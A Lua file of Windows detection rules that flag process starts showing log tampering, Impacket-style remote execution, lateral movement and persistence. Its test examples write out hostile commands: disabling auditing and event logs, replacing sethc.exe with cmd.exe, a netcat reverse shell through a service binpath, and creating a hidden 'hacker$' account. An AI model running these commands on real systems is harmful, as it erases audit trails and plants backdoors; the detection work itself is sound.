-- Windows process starts: audit and log tampering, remote execution and
-- lateral movement, persistence and privilege escalation.
local rules = require "etwlua.rules"
local m = require "etwlua.match"

local function cl(p) return p.cl end
-- the first of the plain (non-pattern) needles found in s, or nil
local function any(s, list)
  for _, n in ipairs(list) do if s:find(n, 1, true) then return n end end
  return nil
end
local F1 = m.finder { "clearlog(", ".clear()", "cleareventlog", "globalsession.clearlog" }
local F2 = m.finder { "eventlog", "eventing.reader", "nteventlogfile" }
local F4 = m.finder { "copy ", "move ", "xcopy", "ren ", "rename", "takeown", "icacls", "copy-item", "replace " }
local F5 = m.finder { "add", "set-itemproperty", "new-itemproperty" }
local F6 = m.finder { " shell", "userinit", "notify", "taskman" }
local F7 = m.finder { "cmd", "powershell", "\\users\\", "\\temp\\", "\\programdata\\", "rundll32", "mshta" }
local F8 = m.finder { "copy", "move", "out-file", "set-content", "echo" }
local F9 = m.finder { "commandlineeventconsumer", "activescripteventconsumer", "__filtertoconsumerbinding" }
local F10 = m.finder { "create", "set-wmiinstance", "new-ciminstance", "new-object" }
local S32 = [[C:\Windows\System32\]]
local function X(name, command_line, parent, extra)
  local t = { image = name:find("\\", 1, true) and name or S32 .. name, command_line = command_line,
              parent_image = parent }
  for k, v in pairs(extra or {}) do t[k] = v end
  return t
end
local shells = m.set { "cmd.exe", "powershell.exe", "pwsh.exe", "wscript.exe", "cscript.exe", "mshta.exe",
                       "rundll32.exe", "regsvr32.exe", "bitsadmin.exe", "certutil.exe" }

-- ---- audit and event-log tampering --------------------------------------

rules.define {
  id = "win.auditpol_disable", platform = "windows", severity = "high",
  needs = { name = { "auditpol.exe" }, command_line = { "auditpol" } },
  title = "Audit policy weakened with auditpol",
  description = "auditpol /set ... /success:disable, /clear or /remove switches auditing off so later steps leave "
    .. "no Security events.",
  technique = { "T1562.002" },
  falsepositives = { "Baseline scripts that reset policy before applying a GPO" },
  match = function(p)
    local c = cl(p)
    if p.name ~= "auditpol.exe" and not c:find("auditpol", 1, true) then return false end
    return (c:find("disable", 1, true) and c:find("/set", 1, true)) or c:find("/clear", 1, true)
      or c:find("/remove", 1, true) or c:find("/restore", 1, true)
  end,
  examples = {
    positive = { X("auditpol.exe", [[auditpol /set /category:"Detailed Tracking" /success:disable /failure:disable]]),
                 X("auditpol.exe", [[auditpol.exe /clear /y]]),
                 X("auditpol.exe", [[auditpol /remove /allusers]]) },
    negative = { X("auditpol.exe", [[auditpol /get /category:*]]),
                 X("auditpol.exe", [[auditpol /set /subcategory:"Logon" /success:enable /failure:enable]]) },
  },
}

rules.define {
  id = "win.eventlog_disabled_cli", platform = "windows", severity = "high",
  needs = { name = { "wevtutil.exe" }, command_line = { "eventlog", "control\\minint" } },
  title = "Event log disabled, shrunk or its service stopped",
  description = "wevtutil sl /e:false, Limit-EventLog, stopping or disabling the EventLog service, or the MiniNt "
    .. "key stop logging without clearing it.",
  technique = { "T1562.002", "T1070.001" },
  falsepositives = { "Admins disabling noisy debug channels with wevtutil sl (those are analytic logs, not Security)" },
  match = function(p)
    local c = cl(p)
    if p.name == "wevtutil.exe" and (c:find(" sl ", 1, true) or c:find(" set-log", 1, true)) then
      return c:find("/e:false", 1, true) or c:find("/enabled:false", 1, true) or c:find("/ms:", 1, true)
    end
    return (c:find("limit-eventlog", 1, true) and c:find("maximumsize", 1, true))
      or (c:find("eventlog", 1, true) and (p.name == "sc.exe" or p.name == "net.exe" or p.name == "net1.exe"
          or c:find("set-service", 1, true) or c:find("stop-service", 1, true))
          and (c:find("disabled", 1, true) or c:find("stop", 1, true)))
      or (c:find("services\\eventlog", 1, true) and c:find("start", 1, true) and c:find(" 4", 1, true))
      or c:find("control\\minint", 1, true)
  end,
  examples = {
    positive = { X("wevtutil.exe", [[wevtutil sl Security /e:false]]),
                 X("sc.exe", [[sc config eventlog start= disabled]]),
                 X("reg.exe", [[reg add "HKLM\SYSTEM\CurrentControlSet\Control\MiniNt" /f]]),
                 X("reg.exe", [[reg add HKLM\SYSTEM\CurrentControlSet\Services\EventLog /v Start /t REG_DWORD /d 4 /f]]),
                 X([[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
                   [[powershell Limit-EventLog -LogName Security -MaximumSize 64KB]]) },
    negative = { X("wevtutil.exe", [[wevtutil qe Security /c:5]]),
                 X("sc.exe", [[sc query eventlog]]),
                 X("wevtutil.exe", [[wevtutil sl Microsoft-Windows-DNS-Client/Operational /e:true]]) },
  },
}

rules.define {
  id = "win.eventlog_cleared_powershell_api", platform = "windows", severity = "high",
  needs = { command_line = { "clearlog(", ".clear()", "cleareventlog", "globalsession.clearlog" } },
  title = "Event log cleared through .NET or WMI",
  description = "EventLogSession.ClearLog, [Diagnostics.EventLog]::Clear or Win32_NTEventlogFile ClearEventLog "
    .. "clear logs without wevtutil or Clear-EventLog.",
  technique = { "T1070.001" },
  falsepositives = { "Lab reset scripts" },
  match = function(p)
    local c = cl(p)
    return F1(c)
      and F2(c)
  end,
  examples = {
    positive = { X("powershell.exe",
                   [[powershell -c "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')"]]),
                 X("wmic.exe", [[wmic nteventlog where filename='security' call cleareventlog]]) },
    negative = { X("powershell.exe", [[powershell Get-EventLog -LogName System -Newest 5]]),
                 X("powershell.exe", [[powershell $list.Clear()]]) },
  },
}

-- ---- remote execution and lateral movement -------------------------------

rules.define {
  id = "win.impacket_wmiexec_shell", platform = "windows", severity = "critical",
  needs = { command_line = { "\\admin$\\__" } },
  title = "Impacket wmiexec/dcomexec command shape",
  description = "cmd.exe /Q /c CMD 1> \\\\127.0.0.1\\ADMIN$\\__<time> 2>&1 is how wmiexec and dcomexec run each "
    .. "command and read its output back over SMB.",
  technique = { "T1047", "T1021.003" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    return c:find("/q", 1, true) and c:find("\\\\127.0.0.1\\admin$\\__", 1, true)
      or c:find("1>%s*\\\\[^\\]+\\admin%$\\__%d")
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1631711281.5466034 2>&1]],
                   [[C:\Windows\System32\wbem\WmiPrvSE.exe]]),
                 X("cmd.exe", [[cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1625480375.07 2>&1]], [[C:\Windows\explorer.exe]]) },
    negative = { X("cmd.exe", [[cmd.exe /c copy a.txt \\fileserver\share\a.txt]]),
                 X("cmd.exe", [[cmd.exe /Q /c dir > out.txt]]) },
  },
}

rules.define {
  id = "win.impacket_smbexec_shell", platform = "windows", severity = "critical",
  needs = { command_line = { "__output", "execute.bat" } },
  title = "Impacket smbexec command shape",
  description = "smbexec writes each command to %TEMP%\\execute.bat with output to \\\\127.0.0.1\\C$\\__output and runs "
    .. "it from a throw-away service.",
  technique = { "T1021.002", "T1569.002" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    return (c:find("__output", 1, true) and c:find("\\\\127.0.0.1\\", 1, true))
      or (c:find("execute.bat", 1, true) and c:find("/q", 1, true) and c:find("echo", 1, true))
  end,
  examples = {
    positive = { X("cmd.exe",
      [[C:\Windows\system32\cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat]],
      [[C:\Windows\System32\services.exe]]) },
    negative = { X("cmd.exe", [[cmd /c C:\build\execute.bat]]), X("cmd.exe", [[cmd /c echo hi > \\127.0.0.1\c$\log.txt]]) },
  },
}

rules.define {
  id = "win.impacket_atexec_shell", platform = "windows", severity = "high",
  needs = { command_line = { ".tmp 2>&1" } },
  names = { "cmd.exe" },
  title = "Impacket atexec command shape",
  description = "atexec registers a task running cmd.exe /C CMD > %windir%\\Temp\\<8 letters>.tmp 2>&1 and reads the "
    .. "file back over SMB.",
  technique = { "T1053.005" },
  falsepositives = { "Scheduled maintenance scripts that log to Windows\\Temp with random names" },
  match = function(p)
    local c = cl(p)
    return c:find("windows\\temp\\%a%a%a%a%a%a%a%a%.tmp 2>&1")
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd.exe /C tasklist /v > C:\Windows\Temp\GsXjWcTq.tmp 2>&1]],
                   [[C:\Windows\System32\svchost.exe]]) },
    negative = { X("cmd.exe", [[cmd.exe /C backup.cmd > C:\Windows\Temp\backup-2024-05-01.log 2>&1]]),
                 X("cmd.exe", [[cmd.exe /C dir > C:\Users\a\out.tmp]]) },
  },
}

rules.define {
  id = "win.services_spawns_shell_redirect", platform = "windows", severity = "high",
  needs = { parent_name = { "services.exe" } },
  names = { "cmd.exe", "powershell.exe" },
  title = "Service control manager starts a shell with redirected output",
  description = "A service whose binary is cmd.exe /c ... > file is remote execution (PsExec clones, smbexec, "
    .. "Metasploit psexec), not a real service.",
  technique = { "T1569.002", "T1021.002" },
  falsepositives = { "Badly packaged services that wrap batch files" },
  match = function(p)
    local c = cl(p)
    return p.parent_name == "services.exe"
      and (c:find(">", 1, true) or c:find("echo", 1, true) or c:find("%comspec%", 1, true)
           or c:find("-enc", 1, true) or c:find("-nop", 1, true))
  end,
  examples = {
    positive = { X("cmd.exe", [[%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "IEX ..."]],
                   [[C:\Windows\System32\services.exe]]),
                 X("cmd.exe", [[cmd.exe /c whoami > C:\Windows\Temp\o.txt]], [[C:\Windows\System32\services.exe]]) },
    negative = { X("cmd.exe", [[cmd.exe /c C:\Program Files\App\start.bat]], [[C:\Windows\System32\services.exe]]),
                 X("cmd.exe", [[cmd.exe /c whoami > o.txt]], [[C:\Windows\explorer.exe]]) },
  },
}

rules.define {
  id = "win.schtasks_remote", platform = "windows", severity = "medium",
  names = { "schtasks.exe" },
  title = "Scheduled task created or run on a remote host",
  description = "schtasks /create or /run with /s HOST executes on another machine (lateral movement).",
  technique = { "T1053.005", "T1021" },
  falsepositives = { "Admin tooling that deploys tasks across servers" },
  match = function(p)
    local c = " " .. cl(p) .. " "
    return (c:find(" /create ", 1, true) or c:find(" /run ", 1, true) or c:find(" /change ", 1, true))
      and c:find("[ ]/s%s+%S") and not c:find("[ ]/s%s+localhost") and not c:find("[ ]/s%s+127%.")
  end,
  examples = {
    positive = { X("schtasks.exe", [[schtasks /create /s DC01 /u corp\admin /p x /tn up /tr "c:\t\a.exe" /sc once /st 00:00]]),
                 X("schtasks.exe", [[schtasks /run /s 10.0.0.7 /tn up]]) },
    negative = { X("schtasks.exe", [[schtasks /create /tn up /tr c:\t\a.exe /sc daily]]),
                 X("schtasks.exe", [[schtasks /query /s DC01]]) },
  },
}

rules.define {
  id = "win.sc_remote_service", platform = "windows", severity = "high",
  names = { "sc.exe" },
  title = "Service created or reconfigured on a remote host",
  description = "sc \\\\HOST create/config binPath= runs a command as SYSTEM on another machine.",
  technique = { "T1021.002", "T1569.002", "T1543.003" },
  falsepositives = { "Remote admin of services from a jump host" },
  match = function(p)
    local c = cl(p)
    return c:find("\\\\", 1, true) and (c:find(" create ", 1, true) or c:find(" config ", 1, true))
      and c:find("binpath", 1, true)
  end,
  examples = {
    positive = { X("sc.exe", [[sc \\10.0.0.7 create upd binPath= "cmd /c c:\t\a.exe" start= demand]]),
                 X("sc.exe", [[sc.exe \\FS01 config Spooler binpath= "c:\users\public\x.exe"]]) },
    negative = { X("sc.exe", [[sc \\FS01 query spooler]]), X("sc.exe", [[sc create svc binPath= "C:\App\svc.exe"]]) },
  },
}

rules.define {
  id = "win.winrs_or_psexec_remote", platform = "windows", severity = "medium",
  needs = { name = { "winrs.exe", "psexec", "paexec" }, original_file_name = { "psexec.c" } },
  title = "Remote command through winrs, PsExec or PAExec",
  description = "winrs -r:HOST and psexec/paexec \\\\HOST start a command on another machine.",
  technique = { "T1021.006", "T1569.002" },
  falsepositives = { "Administrators using PsExec for support" },
  match = function(p)
    local c = cl(p)
    local n = p.name or ""
    if n == "winrs.exe" then return c:find("[-/]r:") ~= nil or c:find("[-/]remote:") ~= nil end
    if n:find("^psexec") or n:find("^paexec") or p.original_file_name == "psexec.c" then
      return c:find("\\\\[%w%.%-]+%s")
    end
    return false
  end,
  examples = {
    positive = { X("winrs.exe", [[winrs -r:http://dc01:5985 -u:corp\a ipconfig]]),
                 X([[C:\Tools\PsExec64.exe]], [[PsExec64.exe \\10.0.0.9 -s -accepteula cmd /c whoami]]) },
    negative = { X([[C:\Tools\PsExec64.exe]], [[PsExec64.exe -s -i cmd]]), X("winrs.exe", [[winrs /?]]) },
  },
}

rules.define {
  id = "win.wmic_remote_node", platform = "windows", severity = "high",
  needs = { command_line = { "/node:" } },
  title = "wmic runs a process on a remote node",
  description = "wmic /node:HOST process call create starts a command on another machine over DCOM.",
  technique = { "T1047", "T1021.003" },
  falsepositives = { "Inventory scripts (they query, they do not create processes)" },
  match = function(p)
    local c = cl(p)
    return c:find("/node:", 1, true) and c:find("call", 1, true) and c:find("create", 1, true)
  end,
  examples = {
    positive = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic /node:10.0.0.7 /user:corp\a process call create "cmd /c a.bat"]]) },
    negative = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic /node:10.0.0.7 os get caption]]),
                 X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic process call create notepad]]) },
  },
}

rules.define {
  id = "win.wmiprvse_spawns_lolbin", platform = "windows", severity = "high",
  names = { "rundll32.exe", "regsvr32.exe", "mshta.exe", "wscript.exe", "cscript.exe", "msbuild.exe", "certutil.exe", "bitsadmin.exe" },
  title = "WMI provider host starts a script host or LOLBin",
  description = "WmiPrvSE.exe starting rundll32, regsvr32, mshta, scripts or msbuild is WMI-based execution "
    .. "(Win32_Process Create, event consumers).",
  technique = { "T1047" },
  falsepositives = { "Management agents that run scripts through WMI" },
  match = function(p)
    return p.parent_name == "wmiprvse.exe"
  end,
  examples = {
    positive = { X("rundll32.exe", [[rundll32.exe C:\Users\Public\a.dll,Start]], [[C:\Windows\System32\wbem\WmiPrvSE.exe]]),
                 X([[C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe]], [[msbuild.exe C:\t\x.xml]],
                   [[C:\Windows\System32\wbem\WmiPrvSE.exe]]) },
    negative = { X("rundll32.exe", [[rundll32 shell32.dll,Control_RunDLL]], [[C:\Windows\explorer.exe]]),
                 X("wbem\\WmiApSrv.exe", [[WmiApSrv.exe]], [[C:\Windows\System32\wbem\WmiPrvSE.exe]]) },
  },
}

-- ---- persistence and privilege escalation --------------------------------

local access = { "sethc.exe", "utilman.exe", "osk.exe", "magnify.exe", "narrator.exe", "displayswitch.exe",
                 "atbroker.exe" }
local access_f = m.finder(access)
local access_set = m.set(access)

rules.define {
  id = "win.accessibility_binary_replaced", platform = "windows", severity = "critical",
  needs = { command_line = access },
  title = "Accessibility binary replaced or taken over",
  description = "Copying over, renaming or taking ownership of sethc, utilman, osk... gives a SYSTEM shell at the "
    .. "logon screen.",
  technique = { "T1546.008" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    local who = access_f(c)
    if not who then return false end
    return (F4(c) ~= nil),
      "touches " .. who
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe]]),
                 X("takeown.exe", [[takeown /f C:\Windows\System32\utilman.exe]]),
                 X("icacls.exe", [[icacls C:\Windows\System32\osk.exe /grant administrators:F]]) },
    negative = { X("osk.exe", [[osk.exe]]), X("cmd.exe", [[cmd /c copy a.txt b.txt]]) },
  },
}

rules.define {
  id = "win.accessibility_spawns_shell", platform = "windows", severity = "critical",
  needs = { parent_name = access_set }, -- the match is a parent in the set
  names = { "cmd.exe", "powershell.exe", "pwsh.exe" },
  title = "Accessibility tool starts a shell",
  description = "sethc, utilman or osk starting cmd or PowerShell is the backdoor of an IFEO or binary swap at work.",
  technique = { "T1546.008" },
  falsepositives = { "None known" },
  match = function(p)
    return access_set[p.parent_name or ""]
  end,
  examples = {
    positive = { X("cmd.exe", [[C:\Windows\system32\cmd.exe]], [[C:\Windows\System32\sethc.exe]]) },
    negative = { X("cmd.exe", [[cmd.exe]], [[C:\Windows\explorer.exe]]),
                 X("osk.exe", [[osk.exe]], [[C:\Windows\System32\utilman.exe]]) },
  },
}

rules.define {
  id = "win.ifeo_debugger_cli", platform = "windows", severity = "high",
  needs = { command_line = { "image file execution options", "silentprocessexit" } },
  title = "IFEO Debugger or SilentProcessExit set from the command line",
  description = "A Debugger value under Image File Execution Options, or a SilentProcessExit MonitorProcess, runs a "
    .. "program whenever the target starts or exits.",
  technique = { "T1546.012" },
  falsepositives = { "Developers attaching debuggers with gflags" },
  match = function(p)
    local c = cl(p)
    return (c:find("image file execution options", 1, true) and c:find("debugger", 1, true))
      or (c:find("silentprocessexit", 1, true) and c:find("monitorprocess", 1, true))
      or (c:find("image file execution options", 1, true) and c:find("globalflag", 1, true) and c:find("512", 1, true))
  end,
  examples = {
    positive = { X("reg.exe",
      [[reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f]]),
                 X("reg.exe",
      [[reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe" /v MonitorProcess /d "C:\t\a.exe"]]) },
    negative = { X("reg.exe", [[reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"]]),
                 X("reg.exe", [[reg add HKCU\Software\App /v Debugger /d 0]]) },
  },
}

rules.define {
  id = "win.winlogon_persistence_cli", platform = "windows", severity = "high",
  needs = { command_line = { "currentversion\\winlogon" } },
  title = "Winlogon Shell, Userinit or Notify changed from the command line",
  description = "Winlogon's Shell and Userinit values start programs at every logon; appending to them is "
    .. "persistence.",
  technique = { "T1547.004" },
  falsepositives = { "Kiosk setups that replace the shell" },
  match = function(p)
    local c = cl(p)
    return c:find("currentversion\\winlogon", 1, true) and F5(c)
      and F6(c)
  end,
  examples = {
    positive = { X("reg.exe",
      [[reg add "HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d "C:\Windows\system32\userinit.exe,C:\t\a.exe," /f]]) },
    negative = { X("reg.exe", [[reg query "HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell]]),
                 X("reg.exe", [[reg add "HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v AutoAdminLogon /d 0]]) },
  },
}

rules.define {
  id = "win.tscon_session_hijack", platform = "windows", severity = "high",
  needs = { command_line = { "/dest:" } },
  title = "RDP session hijacked with tscon",
  description = "tscon ID /dest:SESSION run as SYSTEM attaches another user's session without their password.",
  technique = { "T1563.002" },
  falsepositives = { "Admins reconnecting their own session" },
  match = function(p)
    local c = cl(p)
    return p.name == "tscon.exe" and c:find("/dest:", 1, true)
      or (c:find("tscon", 1, true) and c:find("/dest:", 1, true) and c:find("sc", 1, true) and c:find("create", 1, true))
  end,
  examples = {
    positive = { X("tscon.exe", [[tscon 2 /dest:rdp-tcp#5]], nil, { user = "NT AUTHORITY\\SYSTEM" }),
                 X("sc.exe", [[sc create sesshijack binpath= "cmd.exe /k tscon 2 /dest:rdp-tcp#5"]]) },
    negative = { X("tscon.exe", [[tscon /?]]), X("query.exe", [[query session]]) },
  },
}

rules.define {
  id = "win.netsh_portproxy", platform = "windows", severity = "high",
  needs = { name = { "netsh.exe" }, command_line = { "portproxy" } },
  title = "netsh port proxy added",
  description = "netsh interface portproxy add forwards a local port to another host: tunnelling through a pivot.",
  technique = { "T1090.001" },
  falsepositives = { "WSL or Hyper-V port forwarding set up by developers" },
  match = function(p)
    local c = cl(p)
    -- netsh takes any unique prefix: "netsh i p a v l=8001 listena=... c=..." is portproxy add v4tov4
    return (c:find("portproxy", 1, true) and (c:find(" add ", 1, true) or c:find(" set ", 1, true)))
      or (p.name == "netsh.exe" and (c:find("listena", 1, true) or c:find("listenp", 1, true)) and c:find("c%a*=")) or false
  end,
  examples = {
    positive = { X("netsh.exe", [[netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.9 connectport=3389]]),
                 X("netsh.exe", [[netsh I p a v l=8001 listena=1.2.3.4 connectp=3389 c=1.2.3.5]]) },
    negative = { X("netsh.exe", [[netsh interface portproxy show all]]), X("netsh.exe", [[netsh advfirewall show allprofiles]]) },
  },
}

rules.define {
  id = "win.dnscmd_plugin_dll", platform = "windows", severity = "critical",
  needs = { command_line = { "serverlevelplugindll" } },
  title = "DNS server plugin DLL registered",
  description = "dnscmd /config /serverlevelplugindll makes the DNS service (SYSTEM on a DC) load any DLL.",
  technique = { "T1574.002" },
  falsepositives = { "None known" },
  match = function(p) return cl(p):find("serverlevelplugindll", 1, true) ~= nil end,
  examples = {
    positive = { X("dnscmd.exe", [[dnscmd.exe dc01 /config /serverlevelplugindll \\10.0.0.5\s\dns.dll]]) },
    negative = { X("dnscmd.exe", [[dnscmd /enumzones]]), X("dnscmd.exe", [[dnscmd /info]]) },
  },
}

rules.define {
  id = "win.service_binpath_changed", platform = "windows", severity = "high",
  names = { "sc.exe" },
  title = "Existing service pointed at a shell or a user folder",
  description = "sc config SVC binpath= cmd/powershell/a user-writable path hijacks a service to run as SYSTEM.",
  technique = { "T1543.003", "T1574.011" },
  falsepositives = { "Installers re-registering their own services" },
  match = function(p)
    local c = cl(p)
    return c:find(" config ", 1, true) and c:find("binpath", 1, true)
      and F7(c)
  end,
  examples = {
    positive = { X("sc.exe", [[sc config upnphost binpath= "C:\Users\Public\nc.exe -e cmd 10.0.0.5 4444"]]),
                 X("sc.exe", [[sc config spooler binPath= "cmd /c net user x P@ss /add"]]) },
    negative = { X("sc.exe", [[sc config spooler start= auto]]), X("sc.exe", [[sc config svc binPath= "C:\Program Files\A\svc.exe"]]) },
  },
}

rules.define {
  id = "win.startup_folder_drop_cli", platform = "windows", severity = "medium",
  needs = { command_line = { "\\start menu\\programs\\startup" } },
  title = "File copied into a Startup folder",
  description = "copy/move/Copy-Item into Start Menu\\Programs\\Startup runs the file at every logon.",
  technique = { "T1547.001" },
  falsepositives = { "Users adding shortcuts by script" },
  match = function(p)
    local c = cl(p)
    return c:find("\\start menu\\programs\\startup", 1, true) and F8(c)
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd /c copy C:\t\a.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.exe"]]) },
    negative = { X("explorer.exe", [[explorer "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup"]]),
                 X("cmd.exe", [[cmd /c copy a b]]) },
  },
}

rules.define {
  id = "win.bitsadmin_notify_cmdline", platform = "windows", severity = "high",
  needs = { command_line = { "setnotifycmdline" } },
  title = "BITS job set to run a command when it completes",
  description = "bitsadmin /SetNotifyCmdLine makes the BITS service launch a program: persistence that survives "
    .. "reboots until the job ends.",
  technique = { "T1197" },
  falsepositives = { "None known" },
  match = function(p) return cl(p):find("setnotifycmdline", 1, true) ~= nil end,
  examples = {
    positive = { X("bitsadmin.exe", [[bitsadmin /SetNotifyCmdLine backdoor C:\Windows\system32\cmd.exe "cmd.exe /c C:\t\a.exe"]]) },
    negative = { X("bitsadmin.exe", [[bitsadmin /list]]), X("bitsadmin.exe", [[bitsadmin /info job /verbose]]) },
  },
}

rules.define {
  id = "win.wmi_event_consumer_cli", platform = "windows", severity = "high",
  needs = { command_line = { "commandlineeventconsumer", "activescripteventconsumer", "__filtertoconsumerbinding" } },
  title = "WMI event subscription created from the command line",
  description = "Creating __EventFilter with a CommandLineEventConsumer or ActiveScriptEventConsumer is fileless "
    .. "persistence.",
  technique = { "T1546.003" },
  falsepositives = { "Monitoring agents that install their own subscriptions" },
  match = function(p)
    local c = cl(p)
    return F9(c)
      and F10(c)
  end,
  examples = {
    positive = { X([[C:\Windows\System32\wbem\WMIC.exe]],
      [[wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="x", CommandLineTemplate="C:\t\a.exe"]]) },
    negative = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic /NAMESPACE:"\\root\subscription" PATH __EventFilter get]]),
                 X("cmd.exe", [[cmd /c create.bat]]) },
  },
}

rules.define {
  id = "win.hidden_or_guest_account", platform = "windows", severity = "high",
  names = { "net.exe", "net1.exe" },
  title = "Hidden ($) account created or Guest account enabled",
  description = "net user NAME$ /add hides the account from net user; enabling Guest or adding it to a group opens a "
    .. "password-less way in.",
  technique = { "T1136.001", "T1078.001" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    return (c:find("user%s+%S+%$%s") and c:find("/add", 1, true)) or (c:find("guest", 1, true) and
      (c:find("/active:yes", 1, true) or (c:find("localgroup", 1, true) and c:find("/add", 1, true))))
  end,
  examples = {
    positive = { X("net.exe", [[net user hacker$ P@ssw0rd /add]]), X("net1.exe", [[net1 user guest /active:yes]]),
                 X("net.exe", [[net localgroup administrators guest /add]]) },
    negative = { X("net.exe", [[net user alice /domain]]), X("net.exe", [[net user guest]]) },
  },
}

rules.define {
  id = "win.sdbinst_shim", platform = "windows", severity = "high",
  names = { "sdbinst.exe" },
  title = "Application shim database installed",
  description = "sdbinst installs a shim database that can inject DLLs or redirect programs at every start.",
  technique = { "T1546.011" },
  falsepositives = { "Application compatibility fixes deployed by IT" },
  match = function(p)
    local c = cl(p)
    return not c:find("%-u") and c:find("%.sdb")
  end,
  examples = {
    positive = { X("sdbinst.exe", [[sdbinst.exe -q C:\Users\Public\fix.sdb]]) },
    negative = { X("sdbinst.exe", [[sdbinst -u C:\Windows\AppPatch\Custom\x.sdb]]), X("sdbinst.exe", [[sdbinst /?]]) },
  },
}

local servers = m.set { "w3wp.exe", "httpd.exe", "nginx.exe", "php-cgi.exe", "tomcat.exe", "tomcat9.exe",
                        "sqlservr.exe", "spoolsv.exe", "umworkerprocess.exe", "java.exe" }
rules.define {
  id = "win.server_process_spawns_shell", platform = "windows", severity = "high",
  needs = { parent_name = servers },
  title = "Web, database or print server starts a shell",
  description = "cmd or PowerShell under IIS, Apache, SQL Server (xp_cmdshell) or the spooler (PrintNightmare) is a "
    .. "web shell or an exploited service.",
  technique = { "T1505.003", "T1190", "T1068" },
  falsepositives = { "Java applications that shell out (java.exe is broad: tune it away if so)" },
  match = function(p)
    return servers[p.parent_name or ""] and (p.name == "cmd.exe" or p.name == "powershell.exe" or p.name == "pwsh.exe"
      or p.name == "whoami.exe" or p.name == "rundll32.exe") and true or false
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd.exe /c whoami]], [[C:\Windows\System32\inetsrv\w3wp.exe]]),
                 X("rundll32.exe", [[rundll32 C:\Windows\System32\spool\drivers\x64\3\evil.dll]], [[C:\Windows\System32\spoolsv.exe]]) },
    negative = { X("cmd.exe", [[cmd.exe /c build.bat]], [[C:\Windows\explorer.exe]]),
                 X("csc.exe", [[csc.exe /noconfig @x.cmdline]], [[C:\Windows\System32\inetsrv\w3wp.exe]]) },
  },
}

rules.define {
  id = "win.at_remote_or_interactive", platform = "windows", severity = "medium",
  names = { "at.exe" },
  title = "Legacy at.exe job scheduled",
  description = "at.exe is deprecated; a job from it (remote with \\\\HOST, or /interactive) is old-school lateral "
    .. "movement or privilege escalation.",
  technique = { "T1053.002" },
  falsepositives = { "Ancient admin scripts" },
  match = function(p) return cl(p):find("%d:%d%d") ~= nil end,
  examples = {
    positive = { X("at.exe", [[at \\10.0.0.7 23:00 c:\t\a.bat]]), X("at.exe", [[at 10:30 /interactive cmd]]) },
    negative = { X("at.exe", [[at]]), X("at.exe", [[at /?]]) },
  },
}
